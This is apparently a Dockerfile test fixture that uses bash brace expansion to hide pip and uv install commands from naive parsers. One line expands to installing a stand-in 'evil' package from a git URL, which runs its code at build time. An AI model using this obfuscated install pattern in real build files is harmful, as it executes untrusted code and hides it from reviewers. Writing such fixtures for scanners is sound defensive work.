FROM python:3.12
SHELL ["/bin/bash", "-o", "pipefail", "-c"]
# bash brace expansion: each line below runs exactly what its comment says
# -> pip install flask
RUN pip {install,} flask
# -> pip install --only-binary :all: flask "evil @ git+https://github.com/a/evil"  (VCS: always built)
RUN pip install --only-binary :all: {flask,"evil @ git+https://github.com/a/evil"}
# -> pip install flask
RUN {pip,install} flask
# -> uv pip install flask
RUN uv pip {install,} flask
